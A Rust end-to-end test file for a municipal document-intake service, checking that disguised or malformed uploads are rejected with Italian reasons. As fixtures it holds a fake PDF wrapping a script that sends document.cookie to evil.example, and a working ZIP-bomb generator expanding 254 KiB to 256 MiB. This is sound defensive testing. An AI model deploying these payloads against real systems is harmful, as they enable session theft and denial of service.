//! A document must be what it says, and named so that every stage can take it (issue #10,
//! items 6 and 3), on the real stack: a PDF header in front of a web page with a script, a
//! 254 KiB ZIP that expands to 256 MiB (honest about it, and lying about it), and a document
//! whose file name is blank are each rejected by validation with their reason in Italian —
//! nothing registered, no error queue, the history `received → rejected` — while the same
//! practice with well-formed documents goes on to be registered.

use base64::Engine;
use sportello_backoffice_sim::pdf_with_line;
use sportello_e2e::{TestEnv, samples_dir};
use sportello_shared::domain::content::Crc32;
use sportello_shared::domain::state::PracticeState;
use sportello_shared::objects::sha256_hex;
use std::path::PathBuf;
use uuid::Uuid;

fn sample() -> serde_json::Value {
    serde_json::from_slice(
        &std::fs::read(samples_dir().join("submissions/protocollo.istanza_generica-01.json"))
            .unwrap(),
    )
    .unwrap()
}

fn document(role: &str, file_name: &str, media_type: &str, bytes: &[u8]) -> serde_json::Value {
    serde_json::json!({
        "role": role,
        "file_name": file_name,
        "media_type": media_type,
        "sha256": sha256_hex(bytes),
        "content_base64": base64::engine::general_purpose::STANDARD.encode(bytes),
    })
}

/// The sample practice with `documents` instead of its own, written to a file to submit.
fn submission(name: &str, documents: Vec<serde_json::Value>) -> PathBuf {
    let mut submission = sample();
    submission["idempotency_key"] = format!("{name}-{}", Uuid::new_v4()).into();
    if !documents.is_empty() {
        submission["documents"] = documents.into();
    }
    let file = std::env::temp_dir().join(format!("{name}-{}.json", Uuid::new_v4()));
    std::fs::write(&file, serde_json::to_vec(&submission).unwrap()).unwrap();
    file
}

const ZEROS: usize = 256 * 1024 * 1024;

/// 256 MiB of zeros as one deflated ZIP entry, in about 254 KiB: each MiB is compressed once
/// with a full flush (byte-aligned, no shared history), so the same bytes stand for every MiB.
/// `declared` is what the headers say the entry expands to.
fn zip_bomb(declared: u32) -> Vec<u8> {
    use flate2::{Compress, Compression, FlushCompress};
    let mib = vec![0u8; 1024 * 1024];
    let mut compress = Compress::new(Compression::best(), false);
    let mut block = Vec::with_capacity(8 * 1024);
    compress
        .compress_vec(&mib, &mut block, FlushCompress::Full)
        .unwrap();
    assert_eq!(compress.total_in(), mib.len() as u64, "one MiB in one call");
    let mut data = Vec::with_capacity(block.len() * 256 + 8);
    for _ in 0..ZEROS / mib.len() {
        data.extend_from_slice(&block);
    }
    // The final block: empty, stored.
    data.extend_from_slice(&[0x01, 0x00, 0x00, 0xff, 0xff]);
    let mut crc = Crc32::default();
    for _ in 0..ZEROS / mib.len() {
        crc.update(&mib);
    }
    let name = b"zeri.bin";
    let fields = |out: &mut Vec<u8>| {
        out.extend_from_slice(&[20, 0, 0, 0, 8, 0, 0, 0, 0x21, 0x5a]);
        out.extend_from_slice(&crc.value().to_le_bytes());
        out.extend_from_slice(&(data.len() as u32).to_le_bytes());
        out.extend_from_slice(&declared.to_le_bytes());
        out.extend_from_slice(&(name.len() as u16).to_le_bytes());
        out.extend_from_slice(&[0, 0]);
    };
    let mut zip = b"PK\x03\x04".to_vec();
    fields(&mut zip);
    zip.extend_from_slice(name);
    zip.extend_from_slice(&data);
    let directory_at = zip.len() as u32;
    let mut directory = b"PK\x01\x02\x14\x00".to_vec();
    fields(&mut directory);
    directory.extend_from_slice(&[0; 10]);
    directory.extend_from_slice(&0u32.to_le_bytes());
    directory.extend_from_slice(name);
    zip.extend_from_slice(&directory);
    zip.extend_from_slice(b"PK\x05\x06\0\0\0\0\x01\0\x01\0");
    zip.extend_from_slice(&(directory.len() as u32).to_le_bytes());
    zip.extend_from_slice(&directory_at.to_le_bytes());
    zip.extend_from_slice(&[0, 0]);
    zip
}

#[test]
fn the_bomb_really_expands_to_256_mib() {
    let bomb = zip_bomb(ZEROS as u32);
    assert!(
        (250 * 1024..260 * 1024).contains(&bomb.len()),
        "{}",
        bomb.len()
    );
    let data_start = 30 + "zeri.bin".len();
    let mut inflater = flate2::Decompress::new(false);
    let mut out = vec![0u8; 1 << 20];
    let (mut used, mut produced) = (data_start, 0u64);
    loop {
        let before = (inflater.total_in(), inflater.total_out());
        let status = inflater
            .decompress(&bomb[used..], &mut out, flate2::FlushDecompress::None)
            .unwrap();
        used += (inflater.total_in() - before.0) as usize;
        produced += inflater.total_out() - before.1;
        if status == flate2::Status::StreamEnd {
            break;
        }
    }
    assert_eq!(produced, ZEROS as u64);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn documents_that_are_not_what_they_say_or_have_no_usable_name_are_rejected() {
    let env = TestEnv::new().await;
    let fleet = env.start_fleet(&["intake", "validation", "protocol"]);

    let mut web_page = b"%PDF-1.4\n".to_vec();
    web_page.extend_from_slice(
        b"<!DOCTYPE html><html><body><script>fetch('https://evil.example/?c='+document.cookie)\
          </script></body></html>\n",
    );
    let honest_bomb = zip_bomb(ZEROS as u32);
    let lying_bomb = zip_bomb(4096);
    let files = [
        submission(
            "web-page",
            vec![document(
                "istanza",
                "istanza.pdf",
                "application/pdf",
                &web_page,
            )],
        ),
        submission(
            "zip-bomb",
            vec![document(
                "allegati",
                "allegati.zip",
                "application/zip",
                &honest_bomb,
            )],
        ),
        submission(
            "lying-zip-bomb",
            vec![document(
                "allegati",
                "allegati.zip",
                "application/zip",
                &lying_bomb,
            )],
        ),
        submission(
            "blank-name",
            vec![document(
                "istanza",
                "   ",
                "application/pdf",
                &pdf_with_line("Istanza al Comune"),
            )],
        ),
        // The sample as it is: a well-formed PDF and a well-formed ZIP.
        submission("well-formed", Vec::new()),
    ];
    let ids = env.submit_files(&files).await;
    let (refused, accepted) = (&ids[..4], ids[4]);
    env.wait_until_all_in(
        refused,
        &[
            PracticeState::Rejected,
            PracticeState::Validated,
            PracticeState::Registered,
        ],
    )
    .await;
    env.wait_until_all_in(
        &[accepted],
        &[PracticeState::Registered, PracticeState::Rejected],
    )
    .await;

    let well_formed = env.practice(accepted).await.unwrap();
    assert_eq!(
        well_formed.state,
        PracticeState::Registered,
        "{:?}",
        well_formed.rejection_reasons
    );
    let expected = [
        (
            "istanza",
            "contenuto_non_conforme",
            "non è un file PDF valido",
        ),
        (
            "allegati",
            "contenuto_non_conforme",
            "supera i limiti ammessi",
        ),
        (
            "allegati",
            "contenuto_non_conforme",
            "non è un file ZIP valido",
        ),
        ("istanza", "nome_file_non_valido", "non ha un nome"),
    ];
    for (id, (role, code, words)) in refused.iter().zip(expected) {
        let practice = env.practice(*id).await.unwrap();
        assert_eq!(practice.state, PracticeState::Rejected, "{code} {words}");
        let reasons = practice.rejection_reasons.expect("reasons");
        let reasons = reasons.as_array().unwrap();
        assert_eq!(reasons.len(), 1, "{reasons:?}");
        assert_eq!(reasons[0]["code"], code, "{reasons:?}");
        assert_eq!(reasons[0]["field"], role, "{reasons:?}");
        let message = reasons[0]["message"].as_str().unwrap();
        assert!(message.contains(words), "{message}");
        let states: Vec<String> = env
            .app
            .store
            .history(*id)
            .await
            .unwrap()
            .into_iter()
            .map(|h| h.to)
            .collect();
        assert_eq!(states, ["received", "rejected"], "{id}");
    }

    // Nothing else moved: one registration (the well-formed practice's), no error anywhere.
    let registered: Vec<Uuid> = sqlx::query_scalar("SELECT practice_id FROM registrations")
        .fetch_all(env.app.store.pool())
        .await
        .unwrap();
    assert_eq!(registered, [accepted]);
    for worker in ["intake", "validation", "protocol"] {
        let failed = env.drain(&env.error_queue_of(worker)).await;
        assert!(failed.is_empty(), "{worker}: {:?}", failed[0].reason);
    }

    for file in &files {
        let _ = std::fs::remove_file(file);
    }
    fleet.stop().await;
    env.teardown().await;
}
